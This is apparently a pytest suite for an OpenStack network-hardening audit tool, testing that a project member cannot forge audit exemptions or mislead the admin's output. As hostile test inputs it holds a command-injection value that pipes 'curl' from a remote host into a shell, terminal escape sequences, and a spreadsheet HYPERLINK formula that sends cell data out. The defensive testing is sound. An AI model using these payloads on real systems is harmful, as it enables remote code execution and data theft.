"""The audited cannot steer the audit (issue 18): each attack a project
member can make through the real CLI, as the devcloud's `demo` member,
and what the admin's audit and commands do about it.

After each: the admin's audit reports the finding, its exit code is what
it would be without the attack (a baseline of every other finding makes
the code depend on the attacked resource alone), and where a command
refused, the cloud is unchanged."""

import json
import shlex
import urllib.parse
import uuid

import pytest


SSH = 'sg-ingress-ssh-from-world'
PSX = 'port-security-disabled'
STAMP = 'granted=20261101T000000Z-abcd'


def _q(text):
    return urllib.parse.quote(text, safe='')


@pytest.fixture(scope='module')
def lab(devcloud, demo, admin):
    """demo's network (IPv4 and a global IPv6 subnet), two groups with
    world-open SSH, and a group of the admin project."""
    name = 'xlt-%s' % uuid.uuid4().hex[:6]
    made, undo = {'name': name}, []
    try:
        made['net'] = demo.json('network', 'create', name)['id']
        undo.append((demo, 'network', 'delete', made['net']))
        demo.run('subnet', 'create', '--network', made['net'],
                 '--subnet-range', '10.66.0.0/24', name + '-v4')
        demo.run('subnet', 'create', '--network', made['net'],
                 '--ip-version', '6', '--subnet-range', '2001:db8:66::/64',
                 name + '-v6')
        for label in ('a', 'b'):
            made[label] = demo.json('security', 'group', 'create',
                                    '%s-%s' % (name, label))['id']
            undo.append((demo, 'security', 'group', 'delete', made[label]))
            made[label + '-rule'] = demo.json(
                'security', 'group', 'rule', 'create', made[label],
                '--protocol', 'tcp', '--dst-port', '22', '--remote-ip',
                '0.0.0.0/0')['id']
        made['foreign'] = admin.json('security', 'group', 'create',
                                     name + '-admin-only')['id']
        undo.append((admin, 'security', 'group', 'delete',
                     made['foreign']))
        yield made
    finally:
        for port in admin.json('port', 'list', '--network',
                               made.get('net', 'none')):
            admin.run('port', 'delete', port['ID'], check=False)
        for cli, *args in reversed(undo):
            cli.run(*args, check=False)


def _audit(cli, check, *argv):
    proc = cli.run('network', 'harden', 'audit', '--all-projects',
                   '--check', check, '-f', 'json', *argv, check=False)
    assert proc.returncode in (0, 3), proc.stderr
    return proc.returncode, json.loads(proc.stdout)


def _baseline(admin, check, tmp_path, mine):
    """Every finding of check but those on mine: the exit code of an
    audit with it depends on mine alone."""
    _, rows = _audit(admin, check)
    path = tmp_path / ('baseline-%s.json' % check)
    path.write_text(json.dumps([r for r in rows
                                if r['Resource ID'] not in mine]))
    return str(path)


def _tags(cli, kind, rid):
    return cli.json(*kind.split(), 'show', rid)['tags']


def _set_tags(cli, kind, rid, tags):
    cli.run(*kind.split(), 'set', '--no-tag', rid)
    for tag in tags:
        cli.run(*kind.split(), 'set', '--tag', tag, rid)


def _decision(rule, review='2027-06-30', by='admin', reason='approved',
              item=None):
    return ('xloud-acc:v1 check=%s item=%s review=%s %s by=%s reason=%s'
            % (SSH, _q(item) if item is not None else rule.replace('-', ''),
               review, STAMP, by, _q(reason)))


def test_forged_copied_edited_and_replayed_decisions_hide_nothing(
        demo, admin, lab, tmp_path):
    # a baseline of every SSH finding but a's rule (one but b's): the exit
    # code then depends on that rule alone
    base = _baseline(admin, SSH, tmp_path, {lab['a-rule']})
    (tmp_path / 'b').mkdir()
    base_b = _baseline(admin, SSH, tmp_path / 'b', {lab['b-rule']})
    assert _audit(admin, SSH, '--baseline', base)[0] == 3
    # 1. forged from scratch by the member, far future, injected item
    for tag in (_decision(lab['a-rule']),
                _decision(lab['a-rule'], review='9999-12-31'),
                _decision(lab['a-rule'], review='2026-11-02',
                          item='x;curl -s 203.0.113.9|sh;')):
        demo.run('security', 'group', 'set', '--tag', tag, lab['a'])
        code, rows = _audit(admin, SSH, '--baseline', base)
        assert code == 3 and lab['a-rule'] in {r['Resource ID']
                                               for r in rows}, tag
        demo.run('security', 'group', 'unset', '--tag', tag, lab['a'])
    # 2. a real decision on a, copied to b: b's rule is still reported
    out = admin.json('network', 'harden', 'accept', SSH, lab['a-rule'],
                     '--reason', 'bastion', '--review-in', '30')
    assert out['Action'] == 'accepted'
    [real] = [t for t in _tags(demo, 'security group', lab['a'])
              if t.startswith('xloud-acc:')]
    copied = real.replace(lab['a-rule'].replace('-', ''),
                          lab['b-rule'].replace('-', ''))
    demo.run('security', 'group', 'set', '--tag', copied, lab['b'])
    demo.run('security', 'group', 'set', '--tag', real, lab['b'])
    code, rows = _audit(admin, SSH, '--baseline', base_b)
    assert code == 3 and {r['Resource ID'] for r in rows} == {lab['b-rule']}
    assert _audit(admin, SSH, '--baseline', base)[0] == 0   # a's, real
    _set_tags(demo, 'security group', lab['b'], [])
    # 3. the real one edited (review date, reason): a's rule is back
    for edit in (real.replace('review=', 'review=9'),
                 real.replace('reason=bastion', 'reason=bastion2')):
        _set_tags(demo, 'security group', lab['a'], [edit])
        code, rows = _audit(admin, SSH, '--baseline', base)
        assert code == 3 and lab['a-rule'] in {r['Resource ID']
                                               for r in rows}, edit
    _set_tags(demo, 'security group', lab['a'], [real])
    assert _audit(admin, SSH, '--baseline', base)[0] == 0   # the real one
    # 4. revoked, then put back by the member: it hides nothing
    admin.run('network', 'harden', 'revoke', SSH, lab['a-rule'])
    demo.run('security', 'group', 'set', '--tag', real, lab['a'])
    code, rows = _audit(admin, SSH, '--baseline', base)
    assert code == 3 and lab['a-rule'] in {r['Resource ID'] for r in rows}
    # every one of them is reported as a request, naming the group
    _, pending = _audit(admin, 'accepted-request-pending')
    assert lab['a'] in {r['Resource ID'] for r in pending}
    listed = admin.json('network', 'harden', 'accepted', 'list',
                        '--all-projects', '--requested')
    assert lab['a'] in {r['Resource ID'] for r in listed}
    _set_tags(demo, 'security group', lab['a'], [])


def test_an_injected_item_is_one_argument_of_the_remediation(
        demo, admin, lab):
    item = 'x;curl -s 203.0.113.9|sh;'
    tag = _decision(lab['b-rule'], item=item, review='2026-11-02')
    demo.run('security', 'group', 'set', '--tag', tag, lab['b'])
    try:
        _, rows = _audit(admin, 'accepted-request-pending')
        [row] = [r for r in rows if r['Resource ID'] == lab['b']]
        assert shlex.split(row['Remediation'])[:6] == [
            'openstack', 'network', 'harden', 'approve', SSH, item]
        assert shlex.split(row['Remediation'])[6] == '--request'
        long = admin.run('network', 'harden', 'audit', '--all-projects',
                         '--check', 'accepted-request-pending', '--long',
                         '-f', 'value', '-c', 'Resource ID', '-c',
                         'Remediation', check=False).stdout
        [line] = [ln for ln in long.splitlines() if lab['b'] in ln]
        assert shlex.split(line.split(' ', 1)[1])[-3] == item
    finally:
        demo.run('security', 'group', 'unset', '--tag', tag, lab['b'])


def _port(demo, lab, name, *argv):
    return demo.json('port', 'create', '--network', lab['net'],
                     '%s-%s' % (lab['name'], name), *argv)['id']


def test_forged_port_security_records_document_nothing(demo, admin, lab,
                                                       tmp_path):
    port = _port(demo, lab, 'fw', '--disable-port-security',
                 '--no-security-group')
    base = _baseline(admin, PSX, tmp_path, {port})
    for review in ('9999-12-31', '2027-06-30'):
        tag = ('xloud-psx:v1 review=%s %s by=admin sg= reason=approved'
               % (review, STAMP))
        _set_tags(demo, 'port', port, [tag])
        code, rows = _audit(admin, PSX, '--baseline', base)
        assert code == 3 and {r['Resource ID'] for r in rows} == {port}
        [row] = [r for r in admin.json(
            'port', 'security', 'exception', 'list', '--all-projects')
            if r['Port ID'] == port]
        assert row['Status'] == ('invalid record' if review == '9999-12-31'
                                 else 'requested'), row


def test_enable_refuses_a_recorded_group_of_another_project(demo, admin,
                                                            lab):
    port = _port(demo, lab, 'pending', '--disable-port-security',
                 '--no-security-group')
    tag = ('xloud-psx:p1 review=2027-06-30 %s by=admin sg=%s reason=x'
           % (STAMP, lab['foreign'].replace('-', '')))
    demo.run('port', 'set', '--tag', tag, port)
    _, rows = _audit(admin, PSX)
    [row] = [r for r in rows if r['Resource ID'] == port]
    assert row['Detail'].startswith(
        'port security off, exception record never confirmed')
    before = admin.json('port', 'show', port)
    for dry in ((), ('--dry-run',)):
        proc = admin.run('port', 'security', 'enable', port, *dry,
                         check=False)
        assert proc.returncode == 1
        [line] = proc.stderr.strip().splitlines()
        assert 'names security group %s of project' % lab['foreign'] in line
        assert line.endswith('nothing was changed')
    after = admin.json('port', 'show', port)
    assert (after['port_security_enabled'], after['security_group_ids'],
            after['revision_number']) == (
        False, [], before['revision_number'])


@pytest.mark.parametrize('owner', ['network:dhcp', 'network:floatingip',
                                   'network:router_interface',
                                   'network:xyz'])
def test_ports_claiming_neutron_are_ordinary_ports(demo, admin, lab, owner,
                                                   tmp_path, cleanup):
    device = []
    if owner == 'network:router_interface':
        # ML2/OVN answers 500 to a router interface whose device is no
        # router: the claim names a router of the project's own (the
        # port does not hold its subnet's gateway address).
        router = demo.json('router', 'create', lab['name'] + '-r')['id']
        cleanup.append((demo, 'router', 'delete', router))
        device = ['--device', router]
    port = _port(demo, lab, owner.split(':')[1], '--disable-port-security',
                 '--no-security-group', '--device-owner', owner, *device)
    if device:      # Neutron deletes a router's interface only unclaimed
        cleanup.append((demo, 'port', 'delete', port))
        cleanup.append((demo, 'port', 'set', '--device-owner', '', port))
    base = _baseline(admin, PSX, tmp_path, {port})
    code, rows = _audit(admin, PSX, '--baseline', base)
    assert code == 3
    [row] = rows
    assert row['Resource ID'] == port
    assert "claims %s, not verified as Neutron's own" % owner in \
        row['Detail']
    listed = admin.json('port', 'security', 'exception', 'list',
                        '--all-projects')
    assert [r['Status'] for r in listed if r['Port ID'] == port] == [
        'undocumented']


def test_a_public_port_claiming_dhcp_is_still_exposed(demo, admin, lab,
                                                      cleanup):
    check = 'port-exposes-sensitive-port'
    group = demo.json('security', 'group', 'create',
                      lab['name'] + '-v6ssh')['id']
    cleanup.append((demo, 'security', 'group', 'delete', group))
    demo.run('security', 'group', 'rule', 'create', group, '--ethertype',
             'IPv6', '--protocol', 'tcp', '--dst-port', '22',
             '--remote-ip', '::/0')
    # its global IPv6 subnet behind a router with a gateway: routed
    router = demo.json('router', 'create', '--external-gateway', 'public',
                       lab['name'] + '-v6')['id']
    cleanup.append((demo, 'router', 'delete', router))
    demo.run('router', 'add', 'subnet', router, lab['name'] + '-v6')
    cleanup.append((demo, 'router', 'remove', 'subnet', router,
                    lab['name'] + '-v6'))
    port = _port(demo, lab, 'public', '--security-group', group)
    cleanup.append((admin, 'port', 'delete', port))
    demo.run('port', 'set', '--device-owner', 'network:dhcp', port)
    _, rows = _audit(admin, check)
    [row] = [r for r in rows if r['Resource ID'] == port and
             r['Detail Key'] == 'IPv6']
    assert row['Detail'].startswith('reachable by global address '
                                    '2001:db8:66:')
    assert row['Detail'].endswith(
        "(claims network:dhcp; not verified as Neutron's own)")


HOSTILE = 'ops\x1b[2J\x1b[H\x1b]0;pwned\x07\r\nfake row\u202eevil'


def test_hostile_names_and_records_reach_no_terminal(demo, admin, lab):
    demo.run('security', 'group', 'set', '--name', HOSTILE, lab['b'])
    port = _port(demo, lab, 'bad-record', '--disable-port-security',
                 '--no-security-group')
    # (Neutron refuses control characters in a port's name, not in a
    # security group's, nor in any tag)
    demo.run('port', 'set', '--tag',
             'xloud-psx:v1 review=2027-06-30 %s by=%s sg= reason=%s'
             % (STAMP, _q('\x1b]0;pwned\x07'), _q('a\r\nb\x1b[2J')), port)
    demo.run('port', 'set', '--tag', 'raw\x1b]0;pwned\x07tag', port)
    try:
        machine = json.loads(admin.run(
            'network', 'harden', 'audit', '--all-projects', '-f', 'json',
            check=False).stdout)
        assert HOSTILE + ' rule' in {r['Resource Name'] for r in machine}
        for argv in (('network', 'harden', 'audit', '--all-projects'),
                     ('network', 'harden', 'audit', '--all-projects',
                      '--long'),
                     ('network', 'harden', 'accepted', 'list',
                      '--all-projects', '--long'),
                     ('port', 'security', 'exception', 'list',
                      '--all-projects')):
            for fmt in ('table', 'value', 'csv'):
                proc = admin.run(*argv, '-f', fmt, check=False)
                assert proc.returncode in (0, 3), proc.stderr
                text = proc.stdout + proc.stderr
                bad = [c for c in text if not c.isprintable() and c != '\n']
                assert not bad, (argv, fmt, bad[:5])
                if argv[-1] == '--all-projects' and fmt == 'value' and \
                        argv[2] == 'audit':
                    assert len(proc.stdout.splitlines()) == len(machine)
                if argv[2] == 'audit':
                    assert proc.returncode == 3
                    assert 'sg-ingress-ssh-from-world' in proc.stdout
        table = admin.run('network', 'harden', 'audit', '--all-projects',
                          check=False).stdout
        assert 'ops\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\r\\nfake ' \
            'row\\u202eevil rule' in table
    finally:
        demo.run('security', 'group', 'set', '--name', lab['name'] + '-b',
                 lab['b'])


def test_an_approval_covers_only_what_was_reviewed(demo, admin, lab):
    """The demo member writes a request for an any-protocol rule whose
    remote is an address group of 10.20.0.0/16 (no finding yet), then one
    granted in 2100: the admin's approve refuses each in one line and
    writes no endorsement; once the member widens the group to the world
    the audit reports the rule, critical."""
    import datetime

    from xloudclient import records as rec

    name = lab['name'] + '-steer'
    ag = demo.json('address', 'group', 'create', name, '--address',
                   '10.20.0.0/16')['id']
    group = demo.json('security', 'group', 'create', name)['id']
    try:
        rule = demo.json('security', 'group', 'rule', 'create', group,
                         '--protocol', 'any', '--remote-address-group',
                         ag)['id']
        check = 'sg-ingress-any-from-world'
        now = datetime.datetime.now(datetime.timezone.utc)
        asked = rec.make_decision_tag(
            check, rule, now.date() + datetime.timedelta(90), now, 'demo',
            'vpn only')
        demo.run('security', 'group', 'set', '--tag', asked, group)
        tags_before = admin.json('project', 'show', 'demo')['tags']
        proc = admin.run('network', 'harden', 'approve', check, rule,
                         '--request', rec.request_id('security_groups',
                                                     group, asked),
                         check=False)
        assert proc.returncode == 1
        assert proc.stderr.strip().splitlines()[-1].endswith(
            'reports nothing on security group rule %s now: a request is '
            'approved for a finding the audit shows, not one that may '
            'appear later; nothing was changed' % rule)
        future = datetime.datetime(2100, 1, 1, tzinfo=datetime.timezone.utc)
        demo.run('address', 'group', 'set', '--address', '0.0.0.0/0', ag)
        forever = rec.make_decision_tag(
            check, rule, datetime.date(2100, 11, 30), future, 'demo',
            'forever')
        demo.run('security', 'group', 'set', '--tag', forever, group)
        proc = admin.run('network', 'harden', 'approve', check, rule,
                         '--request', rec.request_id('security_groups',
                                                     group, forever),
                         check=False)
        assert proc.returncode == 1
        assert 'in the future' in proc.stderr.strip().splitlines()[-1]
        assert admin.json('project', 'show', 'demo')['tags'] == tags_before
        code, rows = _audit(admin, check)
        assert code == 3
        assert [(r['Resource ID'], r['Severity']) for r in rows
                if r['Resource ID'] == rule] == [(rule, 'critical')]
    finally:
        demo.run('security', 'group', 'delete', group, check=False)
        demo.run('address', 'group', 'delete', ag, check=False)


def test_a_name_a_spreadsheet_would_run_is_text_in_csv(demo, admin, lab):
    """A port named as a formula, with port security off: in the admin's
    `-f csv` its name is a quoted text cell a spreadsheet shows, and
    `-f json` keeps the name as written."""
    import csv
    import io

    name = '=HYPERLINK("http://x.example/?"&A1,"open")'
    port = demo.json('port', 'create', '--network', lab['net'],
                     '--disable-port-security', '--no-security-group',
                     name)['id']
    try:
        proc = admin.run('network', 'harden', 'audit', '--all-projects',
                         '--check', 'port-security-disabled', '-f', 'csv',
                         check=False)
        assert proc.returncode == 3, proc.stderr
        rows = list(csv.DictReader(io.StringIO(proc.stdout)))
        [row] = [r for r in rows if r['Resource ID'] == port]
        assert row['Resource Name'] == "'" + name
        assert not [c for r in rows for c in r.values()
                    if c and c[0] in '=+@']
        _, found = _audit(admin, 'port-security-disabled')
        assert [r['Resource Name'] for r in found
                if r['Resource ID'] == port] == [name]
    finally:
        demo.run('port', 'delete', port, check=False)


def test_look_alike_vip_reservations_hide_no_neighbour(demo, admin, lab):
    """aap-impersonates trusts a VIP reservation only of the pair's own
    project with no device behind it. demo's port holds three addresses:
    its own reservation's (quiet: a VIP), a look-alike of its own with a
    device set (a member may set one: a neighbour), and the admin
    project's look-alike on demo's network (another project's: a
    neighbour)."""
    check = 'aap-impersonates'
    subnet = demo.json('subnet', 'show', lab['name'] + '-v4')['id']

    def reservation(cli, address, *extra):
        return cli.json('port', 'create', '--network', lab['net'],
                        '--fixed-ip', 'subnet=%s,ip-address=%s'
                        % (subnet, address), '--device-owner', 'xloud:vip',
                        '--disable', *extra, 'vip-' + address)['id']
    own = reservation(demo, '10.66.0.61')
    with_device = reservation(demo, '10.66.0.62', '--device',
                              str(uuid.uuid4()))
    foreign = reservation(admin, '10.66.0.63', '--project', 'admin')
    member = _port(demo, lab, 'vrrp', *[
        a for ip in ('10.66.0.61', '10.66.0.62', '10.66.0.63')
        for a in ('--allowed-address', 'ip-address=' + ip)])
    _, rows = _audit(admin, check)
    mine = sorted((r['Resource ID'], r['Detail']) for r in rows
                  if r['Resource ID'] in (member, own, with_device,
                                          foreign))
    admin_id = admin.json('project', 'show', 'admin')['id']
    assert [(rid, detail.split(': may answer as ')[0]) for rid, detail
            in mine] == [(member, 'pair 10.66.0.62'),
                         (member, 'pair 10.66.0.63')], mine
    assert 'port vip-10.66.0.62 (xloud:vip, same project)' in mine[0][1]
    assert 'port vip-10.66.0.63 (xloud:vip, project %s)' % admin_id \
        in mine[1][1]
